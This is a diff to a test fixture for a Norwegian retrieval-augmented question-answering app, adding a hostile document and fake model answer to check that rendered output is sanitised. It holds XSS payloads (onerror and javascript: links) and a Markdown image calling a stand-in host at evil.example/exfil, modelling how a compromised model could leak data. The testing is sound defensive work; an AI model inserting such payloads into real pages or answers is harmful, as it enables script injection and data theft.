@@ -15,6 +15,23 @@ NO_ANSWER_QUESTION = "Hva sier innspillene om månelandinger?"
 BROKEN_QUESTION = "Et spørsmål som gir 503"
 EVIL_QUOTE = 'Vi vil ha <script>alert("x")</script> flere fastleger.'
 
+# A hostile document: Markdown links, images, a javascript: link and raw HTML in every field.
+HOSTILE_QUESTION = "Hva sier innspillet med lenker?"
+HOSTILE_ID = "lenker"
+HOSTILE_FIRST_LINE = (
+    "[Les hele innspillet her](https://evil.example/login) ![logo](https://evil.example/logo.png)"
+)
+HOSTILE_SUBMITTER = "[klikk her](javascript:alert(9)) _x_"
+HOSTILE_URL_QUOTE = "Les mer på https://evil.example/side og www.evil.example i dag."
+HOSTILE_HTML_QUOTE = (
+    "Se <img src=x onerror=alert(7)> og ![kart](https://evil.example/kart.png) her."
+)
+HOSTILE_SECTION = "**Tiltak** [s](https://evil.example/s)"
+# What a hostile model could write into a generated answer, were rag.generate bypassed.
+HOSTILE_GENERATED = (
+    "Se ![status](https://evil.example/exfil?q=1) og <img src=y onerror=alert(8)> [1]."
+)
+
 TEXTS = {
     "moss": (
         "Innspill fra Moss kommune\n\nSamhandling\nDet er mye god samhandling i dag.\n\n"
@@ -26,11 +43,21 @@ TEXTS = {
         "Listelengden bør reduseres.\n\nAndre tema\nDigitalisering er viktig."
     ),
     "ondsinnet": f"Ondsinnet kommune\n\nInnledning her. {EVIL_QUOTE} Slutt.\n\nMer tekst.",
+    HOSTILE_ID: (
+        f"{HOSTILE_FIRST_LINE}\n\nTiltak\n{HOSTILE_URL_QUOTE} {HOSTILE_HTML_QUOTE}\n\n"
+        "Med vennlig hilsen _x_"
+    ),
 }
 META = {
     "moss": ("Moss kommune", "kommune", "moss.pdf", "Innspill fra Moss kommune"),
     "bergen": ("Bergen kommune", "kommune", "bergen.txt", "Bergen kommune"),
     "ondsinnet": ("Ondsinnet <b>kommune</b>", "organisasjon", "ondsinnet.txt", "Test"),
+    HOSTILE_ID: (
+        HOSTILE_SUBMITTER,
+        "organisasjon",
+        f"{HOSTILE_SUBMITTER}.txt",
+        "![tittel](https://evil.example/tittel.png)",
+    ),
 }
 
 
@@ -56,7 +83,7 @@ def citation(n: int, document_id: str, quote: str, score: float) -> dict[str, An
         "source": info["source"],
         "submitter": info["submitter"],
         "submitter_type": info["submitter_type"],
-        "section": "Fastlege" if document_id == "moss" else None,
+        "section": SECTIONS.get(document_id),
         "page": 2 if document_id == "moss" else None,
         "quote": quote,
         "start": start,
@@ -64,6 +91,8 @@ def citation(n: int, document_id: str, quote: str, score: float) -> dict[str, An
         "score": score,
     }
 
+
+SECTIONS = {"moss": "Fastlege", HOSTILE_ID: HOSTILE_SECTION}
 
 CITATIONS = [
     citation(1, "moss", "Moss kommune mener fastlegeordningen må styrkes med flere hjemler.", 0.9),
@@ -83,6 +112,21 @@ ANSWER = {
     "no_answer": False,
     "citations": CITATIONS,
     "timings_ms": {"retrieve": 12.5, "answer": 3.1},
+}
+HOSTILE_CITATIONS = [
+    citation(1, HOSTILE_ID, HOSTILE_URL_QUOTE, 0.8),
+    citation(2, HOSTILE_ID, HOSTILE_HTML_QUOTE, 0.7),
+]
+HOSTILE_ANSWER = {
+    "question": HOSTILE_QUESTION,
+    "answer": (
+        f"{HOSTILE_GENERATED}\n\n"
+        f"**{HOSTILE_SUBMITTER}** (organisasjon)\n- «{HOSTILE_URL_QUOTE}» [1]\n"
+        f"- «{HOSTILE_HTML_QUOTE}» [2]"
+    ),
+    "no_answer": False,
+    "citations": HOSTILE_CITATIONS,
+    "timings_ms": {"retrieve": 5.0},
 }
 NO_ANSWER = {
     "question": NO_ANSWER_QUESTION,
@@ -139,7 +183,9 @@ class _Handler(BaseHTTPRequestHandler):
         body = json.loads(self.rfile.read(int(self.headers["Content-Length"])))
         self.fake.asked.append(body)
         question = body["question"]
-        if question == BROKEN_QUESTION:
+        if question == HOSTILE_QUESTION:
+            self._send(200, HOSTILE_ANSWER)
+        elif question == BROKEN_QUESTION:
             self._send(503, {"detail": "Indeksen mangler. Bygg den med `rag index`."})
         elif question == NO_ANSWER_QUESTION:
             self._send(200, NO_ANSWER)
